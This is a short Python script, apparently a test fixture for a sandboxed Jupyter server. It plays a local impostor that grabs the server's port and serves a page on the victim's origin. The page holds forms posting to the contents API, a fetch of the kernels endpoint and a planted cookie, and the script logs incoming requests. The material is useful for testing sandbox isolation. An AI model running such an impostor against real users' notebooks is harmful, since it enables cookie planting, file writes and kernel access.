"""A program another local user runs on the sandbox's port: it serves a page that would
run on the victim's Jupyter origin, and prints every request line it gets.

Standard library only, so any user's system Python runs it: `python3 impostor.py HOST PORT`.
"""

from __future__ import annotations

import socket
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = (
    b"<html><body><h1>IMPOSTOR PAGE</h1>"
    b'<form method="post" action="/api/contents/pwned.txt"><input name="x"></form>'
    b'<form method="post" action="./"><input name="y"></form>'
    b"<script>fetch('/api/kernels')</script></body></html>"
)


class Handler(BaseHTTPRequestHandler):
    def _answer(self) -> None:
        print("REQUEST", self.command, self.path, flush=True)
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Set-Cookie", "planted=1; Domain=127.0.0.1; Path=/")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    do_GET = do_POST = _answer

    def log_message(self, *args: object) -> None:
        pass


class Server(ThreadingHTTPServer):
    address_family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET


if __name__ == "__main__":
    server = Server((sys.argv[1], int(sys.argv[2])), Handler)
    print("LISTENING", flush=True)
    server.serve_forever()
